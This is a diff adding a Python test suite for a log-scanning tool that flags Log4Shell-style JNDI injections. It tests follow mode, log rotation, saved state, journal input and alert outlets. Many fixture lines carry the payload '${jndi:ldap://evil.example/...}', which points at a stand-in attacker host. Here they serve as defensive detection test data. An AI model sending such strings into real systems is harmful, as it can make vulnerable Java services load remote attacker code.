@@ -1,0 +1,408 @@
+"""--follow, --state, --journal-dir and --to: nothing lost through rotation and kills, duplicates with one id."""
+import collections
+import gzip
+import json
+import os
+import random
+import re
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import unittest
+
+import cli_case
+from cli_case import Case, attack, line
+
+REMOTE = "/lib/systemd/systemd-journal-remote"
+
+
+class Following(Case):
+    def append(self, name, text):
+        with open(self.path(name), "a") as f:
+            f.write(text)
+
+    def test_rename_and_create(self):
+        log = self.write("a.log", attack(0))
+        f = self.follow(log)
+        self.append("a.log", attack(1))
+        f.await_paths("/n1")
+        os.rename(log, log + ".1")
+        self.append("a.log.1", attack(2))  # a writer that has not noticed
+        self.append("a.log", attack(3))
+        f.await_paths("/n1", "/n2", "/n3")
+        self.assertEqual(f.stop(), 1)
+        self.assertEqual(sorted(f.paths()), ["/n1", "/n2", "/n3"])  # not what was there before
+        # the same ids and lines as a run over the files gives
+        seen = {e["event"]["id"]: e["caltrop"]["line"] for e in f.events}
+        os.rename(log, log + ".new")
+        os.rename(log + ".1", log)
+        whole = {e["event"]["id"]: e["caltrop"]["line"] for e in self.events(log)}
+        self.assertEqual(len(set(seen) & set(whole)), 2)
+        for known in set(seen) & set(whole):
+            self.assertEqual(seen[known], whole[known])
+
+    def test_copytruncate_truncation_and_late_creation(self):
+        log = self.write("a.log", line(0) * 50)
+        f = self.follow(log, self.path("late.log"))
+        self.append("a.log", attack(1))
+        f.await_paths("/n1")
+        shutil.copy(log, log + ".1")
+        os.truncate(log, 0)
+        self.append("a.log", attack(2))
+        f.await_paths("/n2")
+        self.write("late.log", attack(3))
+        f.await_paths("/n3")
+        self.assertEqual(f.stop(signal.SIGTERM), 1)
+        self.assertEqual(sorted(f.paths()), ["/n1", "/n2", "/n3"])
+
+    def test_formats_with_state(self):
+        head = "#Version: 1.0\n#Fields: date time c-ip cs(User-Agent) cs-uri-stem sc-status\n"
+        text = "2021-12-10 14:%02d:00 192.0.2.1 ${jndi:ldap://evil.example/n%d} / 404\n"
+        log = self.write("u_ex.log", head + text % (0, 0) * 3)
+        f = self.follow(log)
+        self.append("u_ex.log", text % (1, 1))
+        f.await_paths("/n1")
+        self.assertEqual(f.events[0]["caltrop"]["format"], "w3c")
+        self.assertEqual(f.events[0]["@timestamp"], "2021-12-10T14:01:00Z")
+        self.assertEqual(f.events[0]["source"]["ip"], "192.0.2.1")
+        self.append("u_ex.log", "#Fields: c-ip date time sc-status cs(User-Agent)\n192.0.2.7 2021-12-10 14:02:00 200 ${jndi:ldap://evil.example/n2}\n")
+        f.await_paths("/n2")
+        self.assertEqual(f.events[1]["source"]["ip"], "192.0.2.7")
+        os.rename(log, log + ".1")
+        self.write("u_ex.log", "#Fields: time date c-ip cs(Referer)\n14:03:00 2021-12-10 192.0.2.8 ${jndi:ldap://evil.example/n3}\n")
+        f.await_paths("/n3")
+        self.assertEqual(f.events[2]["source"]["ip"], "192.0.2.8")
+        self.assertEqual(f.stop(), 1)
+
+    def test_folders_without_what_was_rotated(self):
+        self.write("logs/a.log", attack(1))
+        self.write("logs/a.log.1", attack(2))
+        self.write("logs/a.log.2.gz", gzip.compress(attack(3).encode()))
+        f = self.follow(self.path("logs"))
+        os.rename(self.path("logs/a.log.1"), self.path("logs/a.log.9"))
+        os.rename(self.path("logs/a.log"), self.path("logs/a.log.1"))
+        self.append("logs/a.log", attack(4))
+        f.await_paths("/n4")
+        self.assertEqual(f.stop(), 1)
+        self.assertEqual(f.paths(), ["/n4"])
+
+    def test_what_cannot_be_followed_is_said(self):
+        os.mkfifo(self.path("fifo"))
+        log = self.write("a.log", "")
+        f = self.follow(self.path("fifo"), log)
+        f.await_message("fifo: cannot be followed")
+        self.append("a.log", attack(1))
+        f.await_paths("/n1")
+        self.assertEqual(f.stop(), 3)
+        for args in (["--follow"], ["--follow", "-"], ["--follow", "--output", "sarif", log]):
+            self.run_cli("detect", *args, status=2)
+
+    def test_a_line_in_pieces_and_a_longer_one(self):
+        log = self.write("a.log", "")
+        f = self.follow(log)
+        text = attack(1)
+        self.append("a.log", text[:80])
+        self.append("a.log", text[80:])
+        f.await_paths("/n1")
+        self.append("a.log", "a" * (256 * 1024 - 10) + "${jndi:ldap://evil.example/cut}" + "b" * 300_000 + "\n" + attack(2))
+        f.await_paths("/cut", "/n2")
+        self.assertEqual(f.stop(), 1)
+        self.assertEqual([e["caltrop"]["line"] for e in f.events if e["caltrop"]["indicators"][0]["path"] == "/n2"], [3])
+
+
+class State(Case):
+    def setUp(self):
+        super().setUp()
+        self.log = self.path("logs/a.log")
+        self.state = self.path("state")
+        self.written, self.seen = [], collections.Counter()
+        os.mkdir(self.path("logs"))
+
+    def append(self, n):
+        with open(self.log, "a") as f:
+            f.write(attack(n))
+        self.written.append("/n%d" % n)
+
+    def cron(self, status=None, *args):
+        found = []
+        for e in self.events("--state", self.state, *args, self.log, status=status):
+            self.seen[e["event"]["id"]] += 1
+            found.append(e["caltrop"]["indicators"][0]["path"])
+        return found
+
+    def test_cron_through_every_rotation(self):
+        self.append(1)
+        self.assertEqual(self.cron(1), ["/n1"])
+        self.assertEqual(self.cron(0), [])
+        self.append(2)
+        os.rename(self.log, self.log + ".1")
+        self.append(3)
+        self.assertEqual(self.cron(1), ["/n2", "/n3"])
+        self.append(4)
+        with open(self.log, "rb") as f:  # rotated and compressed at once
+            self.write("logs/a.log.1.gz", gzip.compress(f.read()))
+        os.remove(self.log + ".1")
+        os.remove(self.log)
+        self.append(5)
+        self.assertEqual(self.cron(1), ["/n4", "/n5"])
+        self.append(6)  # copied and cut
+        shutil.copy(self.log, self.log + ".1")
+        os.remove(self.log + ".1.gz")
+        os.truncate(self.log, 0)
+        self.append(7)
+        self.assertEqual(self.cron(1), ["/n6", "/n7"])
+        self.append(8)  # twice between two runs
+        os.rename(self.log + ".1", self.log + ".3")
+        os.rename(self.log, self.log + ".2")
+        self.append(9)
+        os.rename(self.log, self.log + ".1")
+        self.append(10)
+        self.assertEqual(self.cron(1), ["/n8", "/n9", "/n10"])
+        self.assertEqual(set(self.seen.values()), {1})
+
+    def test_an_unfinished_line_waits(self):
+        text = attack(1)
+        with open(self.log, "w") as f:
+            f.write(line(0) + text[:90])
+        self.assertEqual(self.cron(0), [])
+        with open(self.log, "a") as f:
+            f.write(text[90:])
+        self.assertEqual(self.cron(1), ["/n1"])
+
+    def test_columns_named_before(self):
+        with open(self.log, "w") as f:
+            f.write("#Fields: date time c-ip cs(User-Agent)\n" + "2021-12-10 14:00:00 192.0.2.1 Mozilla\n" * 20_000)
+        self.assertEqual(self.cron(0), [])
+        with open(self.log, "a") as f:
+            f.write("2021-12-10 14:05:00 192.0.2.9 ${jndi:ldap://evil.example/a}\n")
+        event, = self.events("--state", self.state, self.log, status=1)
+        self.assertEqual((event["source"]["ip"], event["caltrop"]["line"]), ("192.0.2.9", 20_002))
+
+    def test_one_at_a_time_and_foreign_files(self):
+        self.append(1)
+        f = self.follow("--state", self.state, self.log)
+        done = self.run_cli("detect", "--state", self.state, self.log, status=4)
+        self.assertIn(b"in use by another process", done.stderr)
+        self.assertEqual(done.stdout, b"")
+        f.stop()
+        foreign = self.write("foreign", "something else\n")
+        done = self.run_cli("detect", "--state", foreign, self.log, status=4)
+        self.assertIn(b"--state " + foreign.encode(), done.stderr)
+        self.assertEqual((self.dir / "foreign").read_text(), "something else\n")
+
+    def test_killed_at_any_moment(self):
+        """A writer, a rotator and a reader that dies: at least once, and duplicates have one id."""
+        seed = random.randrange(1 << 32)
+        print("seed %d" % seed, file=sys.stderr)
+        lot = random.Random(seed)
+        by_id, n = {}, 0
+        with open(self.path("out"), "ab") as out:
+            for round_ in range(12):
+                for _ in range(lot.randrange(300, 1500)):
+                    self.append(n)
+                    n += 1
+                child = self.start("detect", "-q", "--json", "-j", 2, "--state", self.state, self.log, stdout=out, stderr=subprocess.DEVNULL)
+                # At a random event of its output, or of its life.
+                size, more = os.path.getsize(self.path("out")), lot.randrange(0, 400_000)
+                self.await_that(lambda c=child: c.poll() is not None or os.path.getsize(self.path("out")) - size >= more, "output")
+                child.kill()
+                child.wait()
+                with open(self.path("out"), "rb") as f:
+                    whole = f.read().rpartition(b"\n")[0] + b"\n"
+                os.truncate(self.path("out"), len(whole) if len(whole) > 1 else 0)  # a receiver drops a torn line
+                if lot.random() < 0.5:
+                    for k in range(5, 0, -1):
+                        if os.path.exists("%s.%d" % (self.log, k)):
+                            os.rename("%s.%d" % (self.log, k), "%s.%d" % (self.log, k + 1))
+                    os.rename(self.log, self.log + ".1")
+                    self.append(n)
+                    n += 1
+            self.run_cli("detect", "-q", "--json", "--state", self.state, self.log, stdout=out)
+        lines = collections.Counter()
+        with open(self.path("out"), "rb") as f:
+            for text in f:
+                e = json.loads(text)
+                path = e["caltrop"]["indicators"][0]["path"]
+                self.assertEqual(by_id.setdefault(e["event"]["id"], path), path)
+                lines[path] += 1
+        self.assertEqual(set(lines), set(self.written))
+        self.assertEqual(len(by_id), len(self.written))  # duplicates merge
+
+    def test_follow_goes_on_where_it_was_killed(self):
+        self.append(0)
+        f = self.follow("--state", self.state, self.log)
+        self.append(1)
+        f.await_paths("/n1")
+        self.assertEqual(f.stop(), 1)
+        self.append(2)
+        os.rename(self.log, self.log + ".1")
+        self.append(3)
+        f = self.follow("--state", self.state, self.log)
+        f.await_paths("/n2", "/n3")
+        f.kill()
+        self.append(4)
+        f = self.follow("--state", self.state, self.log)
+        f.await_paths("/n4")
+        f.stop()
+        self.assertNotIn("/n1", f.paths())
+
+
+@unittest.skipUnless(os.path.exists(REMOTE), "systemd-journal-remote is not installed")
+class Journal(Case):
+    def export(self, count, first=0):
+        text = b""
+        for n in range(first, first + count):
+            fields = {"__REALTIME_TIMESTAMP": str(1639144800000000 + n * 1000000), "__MONOTONIC_TIMESTAMP": str(n + 1),
+                      "_BOOT_ID": "0123456789abcdef0123456789abcdef", "PRIORITY": "6", "_SYSTEMD_UNIT": "shop.service",
+                      "MESSAGE": "login of ${jndi:ldap://evil.example/n%d} failed" % n if n % 3 == 0 else "all is well %d" % n}
+            text += "".join("%s=%s\n" % item for item in fields.items()).encode() + b"\n"
+        return text
+
+    def make(self, name, data):
+        os.makedirs(self.path("journal"), exist_ok=True)
+        subprocess.run([REMOTE, "--output=" + self.path("journal/" + name), "-"], input=data, check=True, stdout=subprocess.DEVNULL,
+                       stderr=subprocess.DEVNULL, timeout=cli_case.DEADLINE)
+
+    def test_entries_and_cursor(self):
+        self.make("a.journal", self.export(10))
+        directory = self.path("journal")
+        events = self.events("--journal-dir", directory, status=1)
+        self.assertEqual([e["caltrop"]["indicators"][0]["path"] for e in events], ["/n0", "/n3", "/n6", "/n9"])
+        self.assertEqual(events[1]["caltrop"]["source"], "journal:shop.service")
+        self.assertEqual(events[1]["@timestamp"], "2021-12-10T14:00:03Z")
+        self.assertNotIn("log", events[1])
+        ids = [e["event"]["id"] for e in events]
+        state = self.path("state")
+        self.assertEqual([e["event"]["id"] for e in self.events("--state", state, "--journal-dir", directory, status=1)], ids)
+        self.assertEqual(self.events("--state", state, "--journal-dir", directory, status=0), [])
+        self.make("b.journal", self.export(4, first=12))
+        more = self.events("--state", state, "--journal-dir", directory, status=1)
+        self.assertEqual([e["caltrop"]["indicators"][0]["path"] for e in more], ["/n12", "/n15"])
+        whole = self.events("--journal-dir", directory, "--since", "2021-12-10T14:00:06Z", "--until", "2021-12-10T14:00:12Z", status=1)
+        self.assertEqual([e["event"]["id"] for e in whole], ids[2:])
+
+    def test_together_with_files_and_followed(self):
+        self.make("a.journal", self.export(1))
+        log = self.write("a.log", attack(50))
+        events = self.events("--journal-dir", self.path("journal"), log, status=1)
+        self.assertEqual([e["caltrop"]["indicators"][0]["path"] for e in events], ["/n0", "/n50"])
+        f = self.follow("--journal-dir", self.path("journal"), log)
+        f.await_paths("/n0")
+        self.make("b.journal", self.export(1, first=3))
+        f.await_paths("/n3")
+        with open(log, "a") as to:
+            to.write(attack(51))
+        f.await_paths("/n51")
+        self.assertEqual(f.stop(), 1)
+        done = self.run_cli("detect", "--journal-dir", self.path("nowhere"), status=3)
+        self.assertIn(b"nowhere", done.stderr)
+
+
+class Outlets(Case):
+    def setUp(self):
+        super().setUp()
+        self.log = self.write("a.log", "")
+
+    def append(self, *numbers, host="evil.example"):
+        with open(self.log, "a") as f:
+            f.write("".join(attack(n, host) for n in numbers))
+
+    def sent(self):
+        if not os.path.exists(self.path("out")):
+            return []
+        with open(self.path("out")) as f:
+            return [json.loads(text) for text in f.read().split("\n")[:-1]]
+
+    def test_first_sight_at_once_then_counted(self):
+        f = self.follow("--to", "file:" + self.path("out"), self.log)
+        self.append(1)
+        self.await_that(lambda: len(self.sent()) == 1, "the first sight")
+        self.assertEqual(self.sent()[0]["caltrop"]["repeats"], 1)
+        self.append(*range(2, 500))
+        self.append(501, host="other.example")
+        f.await_paths("/n499", "/n501")
+        self.await_that(lambda: len(self.sent()) == 2, "the second campaign")
+        f.stop()
+        sent = self.sent()
+        self.assertEqual([s["caltrop"]["repeats"] for s in sent], [1, 1, 498])
+        self.assertEqual(sent[-1]["caltrop"]["repeats_total"], 499)
+
+    def test_udp_syslog_and_unix(self):
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp, socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as unix:
+            udp.bind(("127.0.0.1", 0))
+            udp.settimeout(cli_case.DEADLINE)
+            unix.bind(self.path("sock"))
+            unix.listen()
+            unix.settimeout(cli_case.DEADLINE)
+            f = self.follow("--to", "syslog:127.0.0.1:%d" % udp.getsockname()[1], "--to", "unix:" + self.path("sock"), self.log)
+            self.append(1)
+            message = udp.recv(65536)
+            self.assertTrue(message.startswith(b"<"))
+            self.assertNotIn(b"${", message)
+            self.assertEqual(json.loads(message[message.index(b"{"):])["caltrop"]["grade"], "exploit")
+            peer, _ = unix.accept()
+            with peer, peer.makefile() as lines:
+                self.assertEqual(json.loads(lines.readline())["caltrop"]["grade"], "exploit")
+                f.stop()
+
+    def test_https_with_token(self):
+        sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../outlet"))
+        import harness
+        certificates = harness.Certificates()
+        self.addCleanup(certificates.remove)
+        server = harness.Server(certificates.leaf("one", "IP:127.0.0.1"))
+        self.addCleanup(server.close)
+        token = self.write("token", "s3cret\n")
+        f = self.follow("--to", "https://127.0.0.1:%d/in" % server.port, "--ca-file", certificates.ca, "--token-file", token, self.log)
+        self.append(1)
+        server.wait(lambda s: len(s.requests) == 1)
+        self.assertEqual(server.requests[0].headers["authorization"], "Bearer s3cret")
+        self.assertEqual(json.loads(server.requests[0].body)["caltrop"]["grade"], "exploit")
+        f.stop()
+
+    def test_a_dead_outlet_delays_nothing_and_is_told(self):
+        with socket.socket() as s:
+            s.bind(("127.0.0.1", 0))
+            port = s.getsockname()[1]  # nobody listens there
+        url = "http://127.0.0.1:%d/secret-path" % port
+        f = self.follow("--to", url, self.log)
+        self.append(1)
+        f.await_paths("/n1")
+        f.await_message("events wait: ")
+        self.append(2, host="other.example")
+        f.await_paths("/n2")
+        self.assertEqual(f.stop(), 1)
+        told = [m for m in f.messages if "wait for the next run" in m]
+        self.assertEqual(len(told), 1, f.messages)
+        self.assertIn("2 events could not be delivered yet", told[0])
+        self.assertNotIn("secret-path", "".join(f.messages))
+        # somebody listens now: what waited comes with the next run, which finds nothing new
+        sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../outlet"))
+        import harness
+        server = harness.Server(port=port)
+        self.addCleanup(server.close)
+        done = self.run_cli("detect", "-q", "--to", url, self.write("empty.log", ""), status=0)
+        self.assertEqual(done.stderr, b"")
+        self.assertEqual(len(server.requests), 2)
+
+    def test_where_the_spool_lies(self):
+        home = self.path("home")
+        env = {k: v for k, v in self.env.items() if k not in ("CALTROP_DATA_DIR", "XDG_STATE_HOME")}
+        env["XDG_STATE_HOME"] = home
+        if os.getuid() != 0:
+            self.run_cli("detect", "--to", "file:" + self.path("out"), self.log, env=env, status=0)
+            self.assertTrue(os.path.isdir(home + "/caltrop/spool"))
+        self.run_cli("detect", "--to", "file:" + self.path("out"), "--data-dir", self.path("a/b/c"), self.log, status=0)
+        self.assertEqual(os.stat(self.path("a/b/c")).st_mode & 0o777, 0o700)
+        blocked = self.write("blocked", "a file")
+        self.run_cli("detect", "--to", "file:" + self.path("out"), "--data-dir", blocked + "/x", self.log, status=4)
+        for url in ("nosuch:x", "https://", "http://example.org/", "syslog:"):
+            done = self.run_cli("detect", "--to", url, self.log, status=2)
+            self.assertIn(b"--to", done.stderr)
+
+
+if __name__ == "__main__":
+    cli_case.main()
